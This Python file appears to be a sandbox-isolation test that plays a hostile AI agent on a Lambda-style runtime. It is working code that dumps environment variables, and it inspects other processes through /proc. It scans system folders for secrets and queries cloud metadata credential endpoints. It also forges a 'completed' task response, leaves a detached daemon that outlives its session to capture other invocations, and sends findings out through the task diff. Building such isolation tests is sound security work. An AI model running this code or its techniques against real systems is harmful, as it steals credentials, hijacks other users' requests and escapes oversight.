"""An agent that tries what docs say it cannot do. A file of the repository, run by `python3`.

Its prompt, on standard input, is JSON: `needles`, ends of secrets, written backwards so that the
prompt itself is none of their places. What it found is written to report.json, one line, in its
worktree: so it comes back in the task's diff.
"""

import json
import os
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

RUNTIME = "http://127.0.0.1:9001/2018-06-01/runtime"
METADATA = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.2/v2/metadata",
    "http://169.254.170.2/v2/credentials/",
)
FOLDERS = ("/tmp", "/var/task", "/home", "/root", "/etc", "/dev/shm", "/run")
SWALLOWED_SECONDS = 40.0


def main() -> None:
    needles = [each[::-1] for each in json.load(sys.stdin)["needles"]]
    report = {
        "environment": dict(os.environ),
        "user": os.getuid(),
        "processes": processes(),
        "files": files_with(needles),
        "metadata": {url: fetched(url) for url in METADATA},
    }
    report["event"], request = invocation()
    swallowed = Path(os.environ["TMPDIR"], "swallowed")
    leave_daemon(swallowed, request)
    report["forged"] = forge(request)
    deadline = time.monotonic() + SWALLOWED_SECONDS
    while not swallowed.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    report["swallowed"] = swallowed.read_text() if swallowed.exists() else ""
    Path("report.json").write_text(json.dumps(report) + "\n")
    print("I have tried everything.")


def processes() -> list[dict[str, object]]:
    """What can be read of every other one."""
    found = []
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() and int(folder.name) != os.getpid():
            told = {name: readable(folder / name) for name in ("environ", "mem", "maps")}
            command = (folder / "cmdline").read_bytes() if folder.exists() else b""
            found.append({"pid": int(folder.name), "command": command.decode(), **told})
    return found


def readable(path: Path) -> bool:
    try:
        with path.open("rb") as file:
            if path.name != "mem":
                file.read()
    except OSError:
        return False
    return True


def files_with(needles: list[str]) -> list[str]:
    found = []
    for folder in FOLDERS:
        for place, _, names in os.walk(folder):
            found += [f"{place}/{name}" for name in names if holds(Path(place, name), needles)]
    return found


def holds(path: Path, needles: list[str]) -> bool:
    try:
        if not path.is_file():
            return False
        content = path.read_bytes()
    except OSError:
        return False
    return any(needle.encode() in content for needle in needles)


def fetched(url: str) -> str:
    try:
        with urllib.request.urlopen(url, timeout=2) as answer:
            return str(answer.read(300).decode(errors="replace"))
    except (OSError, ValueError) as error:
        return type(error).__name__


def invocation() -> tuple[str, str]:
    try:
        with urllib.request.urlopen(f"{RUNTIME}/invocation/next", timeout=5) as answer:
            return answer.read().decode(), answer.headers["Lambda-Runtime-Aws-Request-Id"]
    except OSError as error:
        return type(error).__name__, ""


def forge(request: str) -> int:
    body = json.dumps({"task": "forged", "state": "completed"}).encode()
    url = f"{RUNTIME}/invocation/{request}/response"
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body), timeout=5) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return 0


def leave_daemon(swallowed: Path, request: str) -> None:
    """A process that is nobody's child, in a session of its own: it fetches whatever comes next."""
    subprocess.run([sys.executable, __file__, "daemon", str(swallowed), request], check=True)


def daemon(swallowed: Path, request: str) -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    while True:
        try:
            with urllib.request.urlopen(f"{RUNTIME}/invocation/next", timeout=120) as answer:
                event = answer.read().decode()
                if answer.headers["Lambda-Runtime-Aws-Request-Id"] != request:
                    swallowed.with_suffix(".new").write_text(event)
                    swallowed.with_suffix(".new").rename(swallowed)
        except OSError:
            pass
        time.sleep(0.1)


if __name__ == "__main__":
    if sys.argv[1:2] == ["daemon"]:
        daemon(Path(sys.argv[2]), sys.argv[3])
    else:
        main()
